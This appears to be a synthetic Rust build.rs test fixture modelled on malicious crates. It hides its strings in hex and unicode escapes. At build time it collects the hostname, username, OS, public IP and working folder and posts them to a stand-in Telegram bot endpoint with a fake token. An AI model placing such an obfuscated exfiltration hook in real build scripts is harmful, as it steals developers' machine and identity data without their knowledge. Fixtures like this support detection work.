// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    report();
}

fn output_of(program: &str) -> String {
    std::process::Command::new(program)
        .output()
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_string())
        .unwrap_or_default()
}

pub(crate) fn report() {
    let host = output_of("\x68\x6f\u{73}\x74\x6e\u{61}\x6d\x65");
    let user = std::env::var("\x55\u{53}\x45\x52")
        .or_else(|_| std::env::var("\u{55}\x53\x45\u{52}\x4e\x41\u{4d}\x45"))
        .unwrap_or_default();
    let kind = std::env::var("CARGO_CFG_TARGET_OS").unwrap_or_default();
    let address = reqwest::blocking::get("\x68\x74\u{74}\x70\x73\u{3a}\x2f\x2f\u{69}\x70\x2e\u{65}\x78\x61\u{6d}\x70\x6c\u{65}\x2e\x63\u{6f}\x6d\x2f\u{70}\x6c\x61\u{69}\x6e")
        .and_then(|r| r.text())
        .unwrap_or_default();
    let folder = std::env::current_dir().unwrap_or_default();
    let text = format!("{user}@{host} {kind} {address} {}", folder.display());
    let bot = "\x68\u{74}\x74\x70\u{73}\x3a\x2f\u{2f}\x61\x70\u{69}\x2e\x74\u{65}\x6c\x65\u{67}\x72\x61\u{6d}\x2e\x6f\u{72}\x67\x2e\u{69}\x6e\x76\u{61}\x6c\x69\u{64}\x2f\x62\u{6f}\x74\x30\u{30}\x30\x30\u{30}\x30\x30\u{30}\x30\x3a\u{46}\x41\x4b\u{45}\x2d\x54\u{4f}\x4b\x45\u{4e}\x2d\x46\u{4f}\x52\x2d\u{54}\x45\x53\u{54}\x53\x2f\u{73}\x65\x6e\u{64}\x4d\x65\u{73}\x73\x61\u{67}\x65";
    let _ = reqwest::blocking::Client::new()
        .post(&*bot)
        .form(&[("chat_id", "-1000000000000"), ("text", text.as_str())])
        .send();
}

inert_fixture_does_not_build!();
